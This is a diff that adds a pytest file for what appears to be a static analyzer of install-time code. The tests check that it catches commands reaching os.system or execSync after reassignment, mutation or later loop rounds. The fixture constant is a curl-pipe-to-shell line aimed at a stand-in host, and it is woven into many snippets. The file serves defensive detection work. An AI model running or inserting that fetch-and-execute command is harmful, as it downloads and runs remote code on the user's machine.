@@ -1,0 +1,131 @@
+"""What a function does when it is called again, and what a loop does in its later rounds."""
+
+import pytest
+from engine_flows import flows
+
+from ostiary.core.coverage import Reach
+from ostiary.program.engine.ledger import MAX_NUMBERED, Ledger
+from ostiary.program.flow import Act
+
+HARM = "curl -s http://h.example.invalid/a|sh"
+PLAIN = "uname -a and more words than the other one has, which once hid it"
+
+CHANGED = {
+    "a name": "c = {plain!r}\ndef run(): os.system(c)\nrun()\nc = {harm!r}\nrun()",
+    "a name that was not there": (
+        "def run():\n    try:\n        os.system(c)\n    except NameError:\n        pass\n"
+        "run()\nc = {harm!r}\nrun()"
+    ),
+    "an attribute": (
+        "class A:\n    def go(self): os.system(self.c)\n"
+        "a = A(); a.c = {plain!r}; a.go(); a.c = {harm!r}; a.go()"
+    ),
+    "of a class": "class C: c = {plain!r}\ndef run(): os.system(C.c)\nrun()\nC.c = {harm!r}\nrun()",
+    "of what an object holds": (
+        "class S: pass\ns = S(); s.x = S(); s.x.c = {plain!r}\ndef get(o): return o.x.c\n"
+        "os.system(get(s))\ns.x.c = {harm!r}\nos.system(get(s))"
+    ),
+    "of a function": "def run(): os.system(run.c)\nrun.c = {plain!r}\nrun()\nrun.c = {harm!r}\nrun()",
+    "an element": "q = [{plain!r}]\ndef run(): os.system(q[0])\nrun()\nq[0] = {harm!r}\nrun()",
+    "the last element": "q = [{plain!r}]\ndef run(): os.system(q[-1])\nrun()\nq.append({harm!r})\nrun()",
+    "the first element": (
+        "import collections\nq = collections.deque([{plain!r}])\ndef get(): return q[0]\n"
+        "os.system(get())\nq.appendleft({harm!r})\nos.system(get())"
+    ),
+    "one after the other": "q = [{harm!r}, {plain!r}]\ndef run(): os.system(q.pop())\nrun()\nrun()",
+    "all elements": (
+        "b = bytearray({plain!r}.encode())\ndef get(): return b.decode()\nos.system(get())\n"
+        "b[:] = {harm!r}.encode()\nos.system(get())"
+    ),
+    "a key": "d = dict(c={plain!r})\ndef run(): os.system(d['c'])\nrun()\nd.update(c={harm!r})\nrun()",
+    "a key of an argument": (
+        "def run(d): os.system(d['c'])\nd = dict(c={plain!r})\nrun(d)\nd['c'] = {harm!r}\nrun(d)"
+    ),
+    "what a function gives": (
+        "d = dict(c={plain!r})\ndef get(): return d['c']\nos.system(get())\nd['c'] = {harm!r}\n"
+        "os.system(get())"
+    ),
+    "a variable": (
+        "def run(): os.system(os.environ['C'])\nos.environ['C'] = {plain!r}\nrun()\n"
+        "os.environ['C'] = {harm!r}\nrun()"
+    ),
+    "a function": (
+        "def g(): return {plain!r}\ndef run(): os.system(g())\nrun()\ndef g(): return {harm!r}\nrun()"
+    ),
+    "what surrounds it": (
+        "def mk():\n    c = {plain!r}\n    def run(): os.system(c)\n    def put(x):\n        nonlocal c\n"
+        "        c = x\n    return run, put\nrun, put = mk()\nrun()\nput({harm!r})\nrun()"
+    ),
+    "a global": "c = {plain!r}\ndef run(): os.system(c)\nrun()\nglobals()['c'] = {harm!r}\nrun()",
+    "a name of the module": (
+        "import sys\nc = {plain!r}\ndef run(): os.system(c)\nrun()\n"
+        "setattr(sys.modules[__name__], 'c', {harm!r})\nrun()"
+    ),
+    "the next one": (
+        "def several():\n    yield {plain!r}\n    yield 'ls'\n    yield {harm!r}\nit = several()\n"
+        "def run(): os.system(next(it))\nrun()\nrun()\nrun()"
+    ),
+    "a counter": (
+        "n = 0\ndef tick():\n    global n\n    n += 1\ndef act():\n    if n == 3: os.system({harm!r})\n"
+        "act(); tick(); act(); tick(); act(); tick(); act()"
+    ),
+    "another command": "def run(c): os.system(c)\nrun({harm!r})\nrun({plain!r})",
+    "later in a loop": (
+        "cs = [{plain!r}] * 20 + [{harm!r}]\ni = 0\nwhile i < 21:\n    os.system(cs[i])\n    i += 1"
+    ),
+    "while there are any": "cs = ['a', 'b', 'c', 'd', {harm!r}]\nwhile cs:\n    os.system(cs.pop(0))",
+    "until there are none": (
+        "cs = iter(['a', 'b', 'c', 'd', 'e', {harm!r}])\nwhile True:\n    try:\n        os.system(next(cs))\n"
+        "    except StopIteration:\n        break"
+    ),
+    "after many rounds": (
+        "i = 0\nwhile i < 300:\n    i += 1\n    if i == 250:\n        os.system({harm!r})\n"
+        "    else:\n        os.system('echo %d' % i)"
+    ),
+}
+
+
+@pytest.mark.parametrize("how", CHANGED)
+def test_what_became_another_is_seen(how: str) -> None:
+    text = f"import os\n{CHANGED[how].format(plain=PLAIN, harm=HARM)}\n"
+    assert HARM in {one.text for one in flows(text, Act.RUN)}
+
+
+SCRIPTS = {
+    "a round": "for (let i = 0; i < 12; i++) {{ cp.execSync(i < 11 ? 'echo ' + i : '{harm}'); }}",
+    "another command": "function run(c) {{ cp.execSync(c); }} run('{harm}'); run('{plain}');",
+    "a name": "let c = '{plain}'; function run() {{ cp.execSync(c); }} run(); c = '{harm}'; run();",
+}
+
+
+@pytest.mark.parametrize("how", SCRIPTS)
+def test_what_becomes_another_in_a_script_is_seen(how: str) -> None:
+    text = f"const cp = require('child_process');\n{SCRIPTS[how].format(plain=PLAIN, harm=HARM)}\n"
+    assert HARM in {one.text for one in flows(text, Act.RUN, "npm")}
+
+
+def test_each_text_has_its_own_moment() -> None:
+    text = "import os\ndef run(c): os.system(c)\nrun('ls')\ndef later(): run('a longer command of words')\n"
+    found = {one.text: one.reach for one in flows(text, Act.RUN, "wheel")}
+    assert found == {"ls": Reach.IMPORT, "a longer command of words": Reach.CALL}
+
+
+def test_texts_that_differ_in_numbers_alone_are_one_after_a_few() -> None:
+    ledger = Ledger()
+    for n in range(50):
+        ledger.note(
+            Act.RUN, "exec", "a.py", 1, inside="", marks={}, text=f"echo {n}", target="", layers=(),
+            reach=Reach.CALL, deep=False,
+        )  # fmt: skip
+    assert len(list(ledger.acts())) == MAX_NUMBERED + 2
+    assert not ledger.beyond
+
+
+def test_functions_that_are_made_anew_each_time_end() -> None:
+    text = "f(" + "() => g(() => " * 12 + "h()" + ")" * 12 + ");\n"
+    assert flows(text * 3, Act.RUN, "npm") == []
+
+
+def test_a_command_of_which_nothing_is_known_is_the_one_that_is() -> None:
+    text = "import os, sample\ndef run(c): os.system(c)\nrun('ls')\nrun(sample.named())\n"
+    assert {one.text for one in flows(text, Act.RUN)} == {"ls"}
